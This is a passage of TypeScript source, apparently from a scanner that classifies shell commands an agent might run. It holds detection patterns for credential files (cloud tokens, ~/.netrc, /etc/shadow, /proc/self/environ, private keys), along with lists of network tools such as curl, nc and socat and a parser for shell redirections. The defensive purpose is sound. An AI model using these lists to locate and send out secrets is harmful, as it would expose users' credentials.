    { src: String.raw`(?<![\w-])\.kube(?:[/\\]\*?)?(?=$|[\s'"\x60;|&):])`, hit: () => cred('~/.kube') },
    { src: String.raw`(?<![\w-])\.config[/\\]hub(?![\w.-])`, hit: () => cred('~/.config/hub') },
    // Python's netrc module reads ~/.netrc by itself.
    { src: String.raw`\bimport\s+netrc\b|\bfrom\s+netrc\s+import\b|\bnetrc\.netrc\s*\(`, hit: () => cred('~/.netrc') },
    { src: String.raw`(?<![\w.-])\.(?:npmrc|pypirc|pgpass)(?![\w-])`, hit: (m) => cred(`~/${m.toLowerCase()}`) },
    { src: String.raw`(?<![\w-])\.config[/\\]gh[/\\]hosts\.ya?ml`, hit: () => cred('~/.config/gh/hosts.yml') },
    {
      // `credentials.json`, `application_default_credentials.json`; not `mycredentials.json`.
      src: String.raw`credentials\.json\b`,
      hit: (_m, text, index) => {
        let s = index;
        while (s > 0 && /\w/.test(text[s - 1] as string)) s--;
        const prefixOk = s === index || text[index - 1] === '_';
        return prefixOk && !/[.-]/.test(text[s - 1] ?? '') ? cred('credentials.json') : undefined;
      },
    },
    { src: String.raw`(?<![\w.-])client_secret[\w.-]*\.json`, hit: () => cred('client_secret.json') },
    { src: String.raw`/etc/(?:g?shadow|master\.passwd)\b`, hit: (m) => cred(m.toLowerCase()) },
    { src: String.raw`/proc/(?:self|thread-self|\d+|\*|\$\$|\$\w+)(?:/task/(?:\d+|\*|\$\$|\$\w+))?/environ\b`, hit: () => cred('/proc/self/environ') },
    // Tokens and keys other tools keep: Vault, Kubernetes and Docker secrets mounted in a container,
    // the Google Cloud and Azure command lines, Terraform, Cargo, s3cmd, the MySQL client.
    { src: String.raw`(?<![\w.-])\.vault-token(?![\w-])`, hit: () => cred('~/.vault-token') },
    { src: String.raw`/(?:var/)?run/secrets/[\w.-]+(?:/[\w.-]+)*`, hit: (m) => cred(m.toLowerCase().slice(0, MAX_TERM)) },
    { src: String.raw`(?<![\w-])\.config[/\\]gcloud[/\\](?:credentials\.db|access_tokens\.db|legacy_credentials)`, hit: () => cred('~/.config/gcloud') },
    { src: String.raw`(?<![\w-])\.azure[/\\](?:msal_token_cache[\w.]*|accessTokens\.json|service_principal_entries\.json)`, hit: () => cred('~/.azure') },
    { src: String.raw`(?<![\w-])\.terraform\.d[/\\]credentials\.tfrc\.json`, hit: () => cred('~/.terraform.d/credentials.tfrc.json') },
    { src: String.raw`(?<![\w-])\.cargo[/\\]credentials(?:\.toml)?(?![\w-])`, hit: () => cred('~/.cargo/credentials') },
    { src: String.raw`(?<![\w.-])\.(?:s3cfg|my\.cnf)(?![\w-])`, hit: (m) => cred(`~/${m.toLowerCase()}`) },
    { src: String.raw`(?<![\w-])\.gnupg\b`, hit: () => cred('~/.gnupg') },
  ],
  'i',
);

// ---------------------------------------------------------------------------------------------
// Private key files (*.pem, *.key, ...), found from the extension backwards to stay linear
// ---------------------------------------------------------------------------------------------

const KEY_EXTENSION = /\.(pem|key|ppk|p12|pfx)(?![\w.-])/gi;
const STEM_CHAR = /[\w.-]/;
const PATH_CHAR = /[\w.~$:/\\-]/;
/** A `.pem` is a private key only when its name says so (`key.pem`, `privkey.pem`, not `cert.pem`). */
const PRIVATE_PEM = /key|priv|id_/i;
/**
 * `name.key` is also how code reads a property (`self.key`, `event.key`), so a bare `x.key` counts
 * only when it looks like a file: it has a directory, is quoted, has a `-` in its name, or its name
 * is a word used for key files (`server.key`, `tls.key`).
 */
const KEY_FILE_STEM =
  /-|^(?:server|private|privkey|priv|tls|ssl|client|host|domain|signing|secret|rsa|ecdsa|ed25519|dsa|site|cert|ca|root|localhost|jwt|master|encryption|id_\w+)(?:_|$)|_(?:private|priv|tls|ssl|secret|signing)(?:_|$)/i;

/** The words every match of {@link KEY_EXTENSION} holds. */
const KEY_FILE_GATE = gateBit(['.pem', '.key', '.ppk', '.p12', '.pfx']);

function scanKeyFiles(text: string, gates: number, at: At, acc: Acc): void {
  if ((gates & KEY_FILE_GATE) === 0) return;
  KEY_EXTENSION.lastIndex = 0;
  for (let m = KEY_EXTENSION.exec(text); m !== null; m = KEY_EXTENSION.exec(text)) {
    const ext = (m[1] as string).toLowerCase();
    let s = m.index;
    while (s > 0 && STEM_CHAR.test(text[s - 1] as string)) s--;
    const stem = text.slice(s, m.index);
    if (stem === '' || stem.startsWith('.')) continue;
    let t = s;
    while (t > 0 && PATH_CHAR.test(text[t - 1] as string)) t--;
    const hasDir = t < s;
    const quoted = t > 0 && /['"`@]/.test(text[t - 1] as string);
    let isKey: boolean;
    if (ext === 'pem') isKey = PRIVATE_PEM.test(stem) && !/pub/i.test(stem);
    else if (ext === 'key') isKey = hasDir || quoted || KEY_FILE_STEM.test(stem);
    else isKey = true;
    if (isKey) record(acc, CRED, `${stem}.${ext}`, at);
  }
}

// ---------------------------------------------------------------------------------------------
// Redirections
// ---------------------------------------------------------------------------------------------

/**
 * Python and JavaScript compare with `<` and `>`; in such text a `>` is not a redirection. A text
 * that shows one of these markers is read as code and its `<`/`>` are ignored (a shell line that
 * runs inline Python loses its own redirections: a documented miss, never a false MUT).
 */
const CODE_LIKE =
  /\b(?:import\s+[\w.{*]|from\s+[\w.]+\s+import\b|def\s+\w+\s*\(|console\.\w|print\s*\(|(?:const|let|var)\s+[\w{[]|require\s*\(|lambda\b|elif\b)|=>|\bif\s*\(/;
/** Redirection operators; each candidate is then checked by {@link isRedirect}. */
const REDIRECT_OP = /<|>>?/g;
/**
 * A redirection target: not `/dev/null` and friends, `nul`, `$null`, nor a bare number (`x > 3`,
 * `2>&1`). Sticky, applied right after the operator.
 */
const REDIRECT_TARGET = /[ \t]*(?!\/dev\/(?:null|stdout|stderr|tty)\b|nul\b|\$null\b|&)(?!\d+(?![\w./]))[^\s<>|&;()]/iy;
/**
 * After `>&`: a file descriptor or `-`, so no file is named; or bash's network pseudo-files
 * (`>& /dev/tcp/host/port`), a connection that the network rules read, not a local write.
 */
const DESCRIPTOR_AFTER = /[ \t]*(?:\d+(?![\w./])|-(?![\w./])|\/dev\/(?:tcp|udp)\/)/y;
/** An input target must look like a path (`< data.csv`, `< ~/x`), as `<` also opens HTML tags. */
const INPUT_TARGET = /[ \t]*(?=[^\s<>|&;()]*[./~$])[^\s<>|&;()]/y;

/**
 * Whether the operator at `i` redirects: `>`, `>>`, `>|`, `2>`, `&>` to a file; `< path` from one. Not
 * `=>`, `->`, `>=`, `>&2`, a here-document `<<`, a process substitution `<(`, nor the `>` closing
 * an HTML tag (`echo '<b>hi</b>'`). Checked by hand from the operator, because expressions with
 * these look-behinds cost a scan at every position of every text.
 */
function isRedirect(text: string, op: string, i: number): boolean {
  const after = i + op.length;
  const next = text[after] ?? '';
  if (op === '<') {
    if (i > 0 && !/\s/.test(text[i - 1] as string)) return false;
    if (next === '<' || next === '(' || next === '&') return false;
    INPUT_TARGET.lastIndex = after;
    return INPUT_TARGET.test(text);
  }
  let j = i - 1;
  if (j >= 0 && /[\d&]/.test(text[j] as string)) j--;
  if (j >= 0 && /[<>=!&|-]/.test(text[j] as string)) return false;
  // `>|` writes over the file even where the shell's noclobber is set: a write all the same.
  const clobber = op === '>' && next === '|';
  // `>&word` (or `>& word`) sends standard output and error to the file `word`; only a descriptor
  // (`>&2`) or `-` (closing it) names no file.
  // Read in the text itself, not a window of it: a window's edge would cut `2x` to the descriptor `2`.
  let both = false;
  if (op === '>' && next === '&') {
    DESCRIPTOR_AFTER.lastIndex = after + 1;
    both = !DESCRIPTOR_AFTER.test(text);
  }
  if (!clobber && !both && /[>=&(|]/.test(next)) return false;
  for (let k = i - 1; k >= 0 && k >= i - 200; k--) {
    const c = text[k] as string;
    if (c === '>' || c === '\n') break;
    if (c === '<') {
      // A tag opens with one `<`; `<<EOF` is a here-document.
      if (text[k - 1] !== '<' && /^\/?[A-Za-z]/.test(text.slice(k + 1, k + 3))) return false;
      break;
    }
  }
  REDIRECT_TARGET.lastIndex = clobber || both ? after + 1 : after;
  return REDIRECT_TARGET.test(text);
}

/**
 * What the `<>` at `i` does to the file it opens for reading and writing: standard input read
 * (and created when missing), standard output or error written, another descriptor either
 * (`exec 3<> state.db`). Only with a descriptor number right before it, at a word's start, as SQL
 * writes `a <> b` for "not equal"; nothing for bash's network pseudo-files (`3<>/dev/tcp/…`), which
 * the network rules read.
 * @returns the phases, 0 when it is no such redirection
 */
function readWriteRedirect(text: string, i: number): number {
  let j = i - 1;
  if (j < 0 || !/\d/.test(text[j] as string)) return 0;
  while (j >= 0 && /\d/.test(text[j] as string)) j--;
  if (j >= 0 && !/\s/.test(text[j] as string)) return 0;
  DESCRIPTOR_AFTER.lastIndex = i + 2;
  if (DESCRIPTOR_AFTER.test(text)) return 0;
  REDIRECT_TARGET.lastIndex = i + 2;
  if (!REDIRECT_TARGET.test(text)) return 0;
  const fd = Number(text.slice(j + 1, i));
  return fd === 1 || fd === 2 ? MUT : PAT | MUT;
}

function scanRedirects(text: string, at: At, acc: Acc): void {
  if ((!text.includes('>') && !text.includes('<')) || CODE_LIKE.test(text)) return;
  REDIRECT_OP.lastIndex = 0;
  for (let m = REDIRECT_OP.exec(text); m !== null; m = REDIRECT_OP.exec(text)) {
    if (m[0] === '<' && text[m.index + 1] === '>') {
      const phases = readWriteRedirect(text, m.index);
      if (phases !== 0) record(acc, phases, '<>', at);
      REDIRECT_OP.lastIndex = m.index + 2;
      continue;
    }
    if (!isRedirect(text, m[0], m.index)) continue;
    record(acc, m[0] === '<' ? PAT : MUT, m[0], at);
  }
}

/**
 * Python/PHP `open(path)` / `open(path, mode)`: a write, append or create mode is MUT, anything
 * else a read. `webbrowser.open(url)` and `xhr.open(...)` are methods, not this builtin.
 */
const OPEN_CALL = /(?<![\w.$])(?:(?:io|os|codecs|aiofiles)\.)?f?open\s*\(((?:[^()\n]|\((?:[^()\n]|\([^()\n]*\))*\)){0,400})\)/g;
const WRITE_MODE = /(?:^|,)\s*(?:mode\s*=\s*)?[rbuf]?(['"])[rbt]*[wax+][rbt+]*\1/;

/** The word every match of {@link OPEN_CALL} holds. */
const OPEN_CALL_GATE = gateBit(['open']);

function scanOpenCalls(text: string, gates: number, at: At, acc: Acc): void {
  if ((gates & OPEN_CALL_GATE) === 0) return;
  OPEN_CALL.lastIndex = 0;
  for (let m = OPEN_CALL.exec(text); m !== null; m = OPEN_CALL.exec(text)) {
    const inner = m[1] as string;
    if (WRITE_MODE.test(inner)) record(acc, MUT, 'open', at);
    else if (inner.trim() !== '') record(acc, PAT, 'open', at);
  }
}

// ---------------------------------------------------------------------------------------------
// Command heads
// ---------------------------------------------------------------------------------------------

/**
 * A command head: a word where a shell (or an exec-style API) would start a program.
 *
 * Positions: the start of the text or line; after `;`, `|`, `&`, a backtick, `$(`, `<(`, `>(`, or
 * `)` and a space; a function's body (`f() { …`); make's `$(shell …`; an editor's shell escape
 * (`w !cmd`, `:!cmd`); a string opening after `(`, `[` or `=` (`os.system("nc ...")`,
 * `subprocess.run(["nc", ...])`, `cmd = "nc ..."`); after an inline-command flag (`sh -c`,
 * `powershell -Command`, `cmd /c`, `eval`, `find -exec`). A bare `(` is not a position: in code
 * `print(host)` names a variable, not the DNS tool. Captured: an assignment (`FOO=1`) or a path
 * and program name; the rest of the segment is read separately.
 */
const HEAD = new RegExp(
  String.raw`(?:^|[\n;|&\x60]|\$\((?:shell\s)?|[<>]\(|\)(?=\s)|\(\s*\)\s*\{(?=\s)|(?:(?<=\s)|(?<=[:%]))!(?=[A-Za-z])|(?:[([]|=|\b(?:exec|system)\s)\s*(?=[fFrRbBuU]{0,2}['"\x60])|(?<![\w-])(?:-[lixe]*c|-command|/c|/k|eval|-exec|-execdir)(?=\s))` +
    String.raw`\s*(?:[!(]\s*|\{\s+)*(?:[fFrRbBuU]{0,2}['"\x60]\s*)?` +
    String.raw`([A-Za-z_]\w*=(?:'[^'\n]{0,256}'|"[^"\n]{0,256}"|\$\{[^}\s]{0,64}\}|\\[^\n]|[^\s'"$\x60;|&()\\]|\$(?![({]))*|(?:[\w.~$:-]*[/\\])*[A-Za-z][\w.+-]*)` +
    String.raw`(?=$|[\s;|&)'"\x60\]<>])`,
  'gi',
);
/**
 * After a head, text that makes it an expression instead: `host = ...`, `head, tail = ...`, `cat: x`,
 * `host[0]`. A `[` after a space starts a word (`curl [2001:db8::10]:8080 …`).
 */
const NOT_A_COMMAND = /^(?:[ \t]*(?:[=:,]|[-+*/%|&^!<>]=)|\[)/;
const ASSIGNMENT = /^[A-Za-z_]\w*=/;
const DURATION = /^\d+(?:\.\d+)?[smhd]?$/;
/**
 * `>`, `2>>`, `<`, `<<EOF`, `<<<`, `1<>` as a word: a redirection and (when bare) its target, not
 * an argument. The operator is the whole run of `<` and `>`: a list of operators let `<` match
 * first in `1<>` and left `>` as its target, so the file after a bare `1<>` was read as an
 * argument (`printenv 1<> f` as printing the one variable `f`). No word holds `>|`: the `|` ends
 * the segment (the write itself is scanRedirects').
 */
const REDIRECT_WORD = /^(?:\d*|&)[<>]+(.*)$/;

/** The first separator or quote at or after `lastIndex`. */
const SEGMENT_STOP = /[\n;|&)`'"]/g;

/**
 * The segment after a head up to the next unquoted separator, at most `limit` chars. Unquoted
 * text is skipped by one search; only quoted stretches are walked.
 */
function segmentAfter(text: string, start: number, limit: number): string {
  const end = Math.min(text.length, start + limit);
  let i = start;
  while (i < end) {
    SEGMENT_STOP.lastIndex = i;
    const m = SEGMENT_STOP.exec(text);
    if (m === null || m.index >= end) return text.slice(start, end);
    const c = m[0];
    if (c !== '"' && c !== "'") return text.slice(start, m.index);
    const close = text.indexOf(c, m.index + 1);
    if (close < 0 || close >= end) return text.slice(start, end);
    i = close + 1;
  }
  return text.slice(start, Math.min(i, end));
}

/** A word that an unquoted `<` or `>` right after it names as a file descriptor: `2>err`, `&>log`. */
const DESCRIPTOR = /^(?:\d+|&)$/;

/**
 * Shell words of a segment: whitespace-separated outside quotes, quotes removed. An unquoted `<` or
 * `>` ends the word before it, as in a shell (`env>/tmp/e` is `env` and a redirection), unless that
 * word is a descriptor ({@link DESCRIPTOR}). Any whitespace separates, the shell's and the rest of
 * Unicode's alike: a word never hides a program name behind a no-break space.
 */
function words(segment: string): string[] {
  // A shortcut: with no quote, backslash or redirection, the loop below gives exactly these words.
  if (!/['"\\<>]/.test(segment)) {
    const trimmed = segment.trim();
    return trimmed === '' ? [] : trimmed.split(/\s+/);
  }
  const out: string[] = [];
  let cur = '';
  let inWord = false;
  let quote = '';
  // Whether the word's first `<` or `>` was quoted or escaped (undefined: none yet). A quoted one
  // is text (`grep -c '>' notes.txt`), not a redirection, and must not take the next word with it.
  let angleQuoted: boolean | undefined;
  // Whether the word so far holds a quoted or escaped character: then it is an argument, never a
  // descriptor (`cat "1">out.txt` reads the file `1`; only an unquoted `1>` names standard output).
  let quotedSoFar = false;
  const add = (ch: string, quoted: boolean): void => {
    if (!quoted && (ch === '<' || ch === '>') && angleQuoted === undefined && cur !== '' && (quotedSoFar || !DESCRIPTOR.test(cur))) push();
    if (angleQuoted === undefined && (ch === '<' || ch === '>')) angleQuoted = quoted;
    if (quoted) quotedSoFar = true;
    cur += ch;
  };
  const push = (): void => {
    out.push(angleQuoted === true && REDIRECT_WORD.test(cur) ? `${LITERAL_MARK}${cur}` : cur);
    cur = '';
    angleQuoted = undefined;
    quotedSoFar = false;
  };
  for (let i = 0; i < segment.length; i++) {
    const c = segment[i] as string;
    if (quote !== '') {
      if (c === quote) quote = '';
      else add(c, true);
    } else if (c === '"' || c === "'") {
      quote = c;
      inWord = true;
      quotedSoFar = true;
    } else if (c === '\\' && i + 1 < segment.length) {
      add(segment[++i] as string, true);
      inWord = true;
    } else if (WHITESPACE.test(c)) {
      if (inWord) push();
      cur = '';
      angleQuoted = undefined;
      quotedSoFar = false;
      inWord = false;
    } else {
      add(c, false);
      inWord = true;
    }
  }
  if (inWord) push();
  return out;
}

const WHITESPACE = /\s/;

/**
 * Put before a word that looks like a redirection but whose `<` or `>` was quoted: no argument can
 * hold NUL, so the mark never meets a real word, and {@link REDIRECT_WORD} no longer matches it.
 */
const LITERAL_MARK = '\u0000';

/** Program name of a word: no directory, lower case, no `.exe`. */
function programName(word: string): string {
  const base = word.slice(Math.max(word.lastIndexOf('/'), word.lastIndexOf('\\')) + 1).toLowerCase();
  return base.endsWith('.exe') ? base.slice(0, -4) : base;
}

/** Arguments that are not flags or redirections: the operands. `-` (standard input) is kept. */
function operands(args: readonly string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    const r = REDIRECT_WORD.exec(a);
    if (r !== null) {
      // A bare `>`, or a bare `>&`: the next word is the redirection's target, a file name or (after
      // `>&`) a descriptor or `-` (`printenv >& 2`), never an argument.
      if (r[1] === '' || r[1] === '&') i++;
      continue;
    }
    if (a.length > 1 && a.startsWith('-')) continue;
    out.push(a);
  }
  return out;
}

/** Whether a single-dash flag cluster (`-sSLo`) contains one of `letters`. */
function clusterHas(args: readonly string[], letters: RegExp): boolean {
  return args.some((a) => /^-[A-Za-z]+$/.test(a) && letters.test(a.slice(1)));
}

/**
 * Wrappers that run the command after them, with their flags that take a separate argument. Flags
 * whose argument is optional and attached (GNU `xargs -i[str]`, `-l[n]`, `-e[str]`, `watch
 * -d[=permanent]`) take none; flags after which no command runs (`sudo -U`, `doas -C`, `ionice
 * -p`, `strace -p`) and `env -S`, whose argument is the command line itself, are not listed.
 */
const WRAPPERS: ReadonlyMap<string, ReadonlySet<string>> = new Map<string, ReadonlySet<string>>([
  ['sudo', new Set(['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t'])],
  ['doas', new Set(['-u'])],
  ['xargs', new Set(['-I', '-n', '-P', '-L', '-s', '-d', '-a', '-E'])],
  ['timeout', new Set(['-s', '-k', '--signal', '--kill-after'])],
  ['nice', new Set(['-n'])],
  ['ionice', new Set(['-c', '-n'])],
  ['stdbuf', new Set()],
  ['nohup', new Set()],
  ['time', new Set(['-f', '-o'])],
  ['command', new Set()],
  ['builtin', new Set()],
  ['exec', new Set(['-a'])],
  // `eval curl …`: what eval runs is its arguments, read as one command (the quotes already gone).
  ['eval', new Set()],
  ['env', new Set(['-u', '-C', '--unset', '--chdir'])],
  ['watch', new Set(['-n', '--interval'])],
  ['strace', new Set(['-o', '-e', '-s'])],
  ['torsocks', new Set()],
  ['proxychains', new Set(['-f'])],
  ['proxychains4', new Set(['-f'])],
  ['busybox', new Set()],
  // Launchers that run the program after their options.
  ['setsid', new Set()],
  ['flock', new Set(['-w', '-E', '--timeout', '--conflict-exit-code'])],
  ['chrt', new Set()],
  ['taskset', new Set()],
  ['unbuffer', new Set()],
  ['sshpass', new Set(['-p', '-f', '-d', '-P'])],
  ['coproc', new Set()],
  // expect's `spawn`, GNU parallel (its command before `:::`), and watch (which runs its words with sh -c).
  ['spawn', new Set()],
  ['parallel', new Set(['-j', '--jobs', '-S', '--sshlogin', '-a', '--arg-file', '--colsep', '-d', '--delimiter', '-n', '--max-args', '-I', '--tmpdir', '--results', '--joblog'])],
  ['then', new Set()],
  ['do', new Set()],
  ['else', new Set()],
  ['elif', new Set()],
  ['if', new Set()],
  ['while', new Set()],
  ['until', new Set()],
  ['!', new Set()],
]);

/**
 * Programs whose only purpose is network I/O (or DNS, which carries data in the names it asks).
 * PowerShell's network cmdlets are found wherever they appear by {@link NETWORK_AND_POWERSHELL}.
 */
const NETWORK_TOOLS: ReadonlySet<string> = new Set([
  'curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'ftp', 'tftp', 'lftp',
  'dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'traceroute', 'tracepath', 'whois',
  'sendmail', 'mail', 'mailx', 'mutt', 'msmtp', 'swaks', 'gsutil', 's3cmd', 'rclone', 'azcopy', 'aria2c',
  'xh', 'http', 'https', 'httpie', 'ngrok', 'websocat', 'wscat', 'grpcurl', 'nmap', 'smbclient',
  'iwr', 'irm', 'bitsadmin',
  // Netcat under its distributions' names, a name lookup (the name itself can carry data), clients of
  // servers anywhere, an interpreter with sockets of its own.
  'nc.openbsd', 'nc.traditional', 'getent', 'psql', 'mysql', 'mariadb', 'redis-cli', 'mongo', 'mongosh', 'ldapsearch',
  'tclsh', 'wish', 'ssh-keyscan', 'mosquitto_pub', 'mosquitto_sub', 'ftpput', 'ftpget',
  // Servers that hand the files of a directory to anyone who asks.
  'httpd', 'lighttpd', 'darkhttpd', 'thttpd', 'mini_httpd', 'http-server',
]);

/** Readers that print a file's content given any operand (`Get-Content`: {@link NETWORK_AND_POWERSHELL}). */
const FILE_READERS: ReadonlySet<string> = new Set([
  'cat', 'tac', 'head', 'tail', 'less', 'more', 'bat', 'batcat', 'nl', 'xxd', 'od', 'hexdump', 'strings',
  'base64', 'source', 'diff', 'gc',
]);

/**
 * `head` and `tail`, whose options below always take a separate value: `git log | head -n 5` reads
 * no file named `5`. (`cat -n` takes none, so the list is theirs alone.)
 */
const LINE_READERS: ReadonlySet<string> = new Set(['head', 'tail']);
const LINE_READER_VALUE_FLAGS: ReadonlySet<string> = new Set(['-n', '-c', '--lines', '--bytes', '-s', '--sleep-interval', '--pid']);

/**
 * Programs that write, move or delete their operands (the `*-Item` and `*-Content` cmdlets:
 * {@link NETWORK_AND_POWERSHELL}).
 */
const FILE_WRITERS: ReadonlySet<string> = new Set([
  'rm', 'rmdir', 'mv', 'cp', 'mkdir', 'touch', 'chmod', 'chown', 'chgrp', 'ln', 'truncate', 'shred', 'unlink',
  'patch', 'tee', 'gzip', 'gunzip', 'bunzip2', 'xz', 'unxz', 'unzip', 'ri', 'del', 'erase', 'rd', 'ni', 'ren',
  'rename', 'move', 'copy', 'md', 'mklink',
]);

const PACKAGE_MANAGERS: ReadonlySet<string> = new Set([
  'npm', 'pnpm', 'yarn', 'bun', 'pip', 'pip3', 'uv', 'apt', 'apt-get', 'yum', 'dnf', 'apk', 'brew', 'choco',
  'winget', 'gem', 'cargo', 'go',
]);
const INSTALL_VERBS: ReadonlySet<string> = new Set([
  'install', 'i', 'ci', 'add', 'uninstall', 'remove', 'rm', 'un', 'update', 'upgrade', 'up', 'purge', 'download', 'get',
]);
const GIT_NETWORK: ReadonlySet<string> = new Set(['push', 'pull', 'fetch', 'clone', 'ls-remote', 'send-email', 'request-pull']);
const GIT_WRITE: ReadonlySet<string> = new Set([
  'add', 'am', 'apply', 'checkout', 'cherry-pick', 'clean', 'clone', 'commit', 'init', 'merge', 'mv', 'pull',
  'rebase', 'reset', 'restore', 'revert', 'rm', 'stash', 'switch',
]);
const GIT_READ: ReadonlySet<string> = new Set(['show', 'cat-file', 'blame', 'grep', 'diff']);
/** `gh` subcommands that stay local; every other one calls the GitHub API. */
const GH_LOCAL: ReadonlySet<string> = new Set(['help', 'version', 'completion', 'config', 'alias', 'auth', 'extension', 'ext']);
/** Global CLI flags that take a separate value, skipped when looking for a subcommand. */
const VALUE_FLAGS_LIST = [
  '-C', '-c', '--git-dir', '--work-tree', '--namespace', '-R', '--repo', '--profile', '--region', '--output',
  '--endpoint-url', '--query', '--color', '--ca-bundle', '--project', '--account', '--configuration',
  '--subscription', '--format', '-H', '--host', '--config', '--context',
];
const VALUE_FLAGS: ReadonlySet<string> = new Set(VALUE_FLAGS_LIST);

/**
 * Options of `aws` (global, and of `s3 cp/sync/mv`) that take a separate value: skipped with their
 * value when reading the copy's paths. An option missing here leaves its value among the paths,
 * where it can only add a read or a write (stricter, never laxer); an option whose value is
 * optional (`--sse`) must never be here, or the path after it would be skipped.
 */
const AWS_VALUE_FLAGS: ReadonlySet<string> = new Set([
  ...VALUE_FLAGS_LIST, '--storage-class', '--acl', '--sse-kms-key-id', '--exclude', '--include', '--content-type',
  '--cache-control', '--content-encoding', '--expires', '--metadata-directive', '--grants', '--source-region',
]);

/** Operands with the values of `flags` skipped: `aws s3 cp a b --region x` → `s3 cp a b`. */
function operandsAfterValues(args: readonly string[], flags: ReadonlySet<string>): string[] {
  const kept: string[] = [];
  for (let i = 0; i < args.length; i++) {
    if (flags.has(args[i] as string)) i++;
    else kept.push(args[i] as string);
  }
  return operands(kept);
}

/** Operands before flags' values: the subcommand words of `git -C dir push` → `push`. */
function subcommands(args: readonly string[], n: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length && out.length < n; i++) {
    const a = args[i] as string;
    if (VALUE_FLAGS.has(a)) i++;
    else if (!a.startsWith('-')) out.push(a.toLowerCase());
  }
  return out;
}

/**
 * A remote operand of scp/rsync: `host:path`, `user@host:`, `host::module`, `rsync://`, with the
 * host a name (it holds a letter: `12:30` is no host), an IPv4 address or a bracketed IPv6 one.
 */
const REMOTE_OPERAND = /^(?:rsync:\/\/|(?:[\w.-]+@)?(?:[\w.-]*[A-Za-z][\w.-]*|\d{1,3}(?:\.\d{1,3}){3}|\[[\dA-Fa-f:.]+\])::?(?![\\/]{2}))/;
const WINDOWS_DRIVE = /^[A-Za-z]:[\\/]/;
const isRemote = (op: string): boolean => REMOTE_OPERAND.test(op) && !WINDOWS_DRIVE.test(op);

/**
 * Options of `docker run`/`exec`/`create` (and podman's) that take a separate value. An option
 * missing here would make its value read as the image, and the image as the command.
 */
const CONTAINER_VALUE_FLAGS: ReadonlySet<string> = new Set([
  '-a', '--attach', '--add-host', '--annotation', '--blkio-weight', '--cap-add', '--cap-drop', '--cgroup-parent',
  '--cgroupns', '--cidfile', '--cpu-period', '--cpu-quota', '--cpu-shares', '-c', '--cpus', '--cpuset-cpus',
  '--cpuset-mems', '--device', '--device-cgroup-rule', '--dns', '--dns-option', '--dns-search', '--domainname',
  '-e', '--env', '--env-file', '--entrypoint', '--expose', '--gpus', '--group-add', '--health-cmd',
  '--health-interval', '--health-retries', '--health-start-period', '--health-timeout', '-h', '--hostname', '--ip',
  '--ip6', '--ipc', '--isolation', '-l', '--label', '--label-file', '--link', '--log-driver', '--log-opt',
  '--mac-address', '-m', '--memory', '--memory-reservation', '--memory-swap', '--mount', '--name', '--network',
  '--net', '--network-alias', '--oom-score-adj', '--pid', '--pids-limit', '--platform', '-p', '--publish', '--pull',
  '--restart', '--runtime', '--security-opt', '--shm-size', '--stop-signal', '--stop-timeout', '--storage-opt',
  '--sysctl', '--tmpfs', '--ulimit', '-u', '--user', '--userns', '--uts', '-v', '--volume', '--volume-driver',
  '--volumes-from', '-w', '--workdir', '--detach-keys',
]);

/** The command a container runs (`docker run --rm -v ~/.aws:/a alpine wget …`): read as one of the host's. */
function containerCommand(args: readonly string[], at: At, acc: Acc): void {
  let entrypoint: string | undefined;
  let i = 0;
  while (i < args.length && (args[i] as string).startsWith('-')) {
    const a = args[i] as string;
    if (a === '--entrypoint') entrypoint = args[i + 1];
    else if (a.startsWith('--entrypoint=')) entrypoint = a.slice('--entrypoint='.length);
    i += CONTAINER_VALUE_FLAGS.has(a) ? 2 : 1;
  }
  // `args[i]` is the image (or the container of `exec`); the command follows it.
  const argv = args.slice(i + 1);
  if (entrypoint !== undefined) argv.unshift(...words(entrypoint));
  if (argv.length > 0) dispatch(argv, at, acc);
}

/** Copy tools: reading a local source is PAT, writing a local destination is MUT. */
function copyPhases(ops: readonly string[], name: string, at: At, acc: Acc, remote = isRemote): void {
  if (ops.length < 2) return;
  if (ops.slice(0, -1).some((o) => !remote(o))) record(acc, PAT, name, at);
  if (!remote(ops[ops.length - 1] as string)) record(acc, MUT, name, at);
}

/** What one command does, from its argv (wrappers and assignments still in front). */
function dispatch(argv: readonly string[], at: At, acc: Acc, depth = 0): void {
  let i = 0;
  let wrapperName = '';
  let sawIgnoreEnv = false;
  let assigned: string[] | undefined;
  for (let guard = 0; i < argv.length && guard < MAX_PREFIX_WORDS; guard++) {
    const w = argv[i] as string;
    // A redirection before the program (`2>/dev/null env`, `> log curl …`), with its target when bare.
    const r = REDIRECT_WORD.exec(w);
    if (r !== null) {
      i += r[1] === '' || r[1] === '&' ? 2 : 1;
      continue;
    }
    if (ASSIGNMENT.test(w)) {
      (assigned ??= []).push(w);
      i++;
      continue;
    }
    const name = programName(w);
    const wrapper = WRAPPERS.get(name);
    if (wrapper === undefined) break;
    wrapperName = name;
    i++;
    if (wrapperName === 'command' && /^-[vV]$/.test(argv[i] ?? '')) return; // `command -v curl`: a lookup
    // `timeout` always takes a duration before the command, whatever it looks like (`"$LIMIT"`);
    // `flock` a lock file.
    let duration = name === 'timeout' || name === 'flock';
    while (i < argv.length) {
      const a = argv[i] as string;
      if ((a.length > 1 && a.startsWith('-')) || (name === 'env' && a === '-')) {
        // `env -` is POSIX for `env -i`: an empty environment, and the program after it.
        if (name === 'env' && (a === '-i' || a === '--ignore-environment' || a === '-')) sawIgnoreEnv = true;
        i += wrapper.has(a) ? 2 : 1;
      } else if (duration || DURATION.test(a) || ASSIGNMENT.test(a)) {
        duration = false;
        i++;
      } else {
        break;
      }
    }
  }
  // INVARIANT: a command the reader gave up on counts as everything the rules look for. The loop
  // above ends on a word that is neither a wrapper, an assignment nor a redirection, unless it ran out of turns.
  if (i < argv.length && (ASSIGNMENT.test(argv[i] as string) || REDIRECT_WORD.test(argv[i] as string) || WRAPPERS.has(programName(argv[i] as string)))) {
    record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_PREFIX_WORDS} words before it`, at);
    return;
  }
  if (i >= argv.length) {
    // `env` (or `env FOO=1`, `env > f`) with no command prints the whole environment.
    if (wrapperName === 'env' && !sawIgnoreEnv) record(acc, CRED, 'env', at);
    return;
  }
  if (wrapperName === 'eval' && depth >= MAX_EVAL_DEPTH) {
    record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_EVAL_DEPTH} nested evals`, at);
    return;
  }
  if (wrapperName === 'eval' || wrapperName === 'watch') {
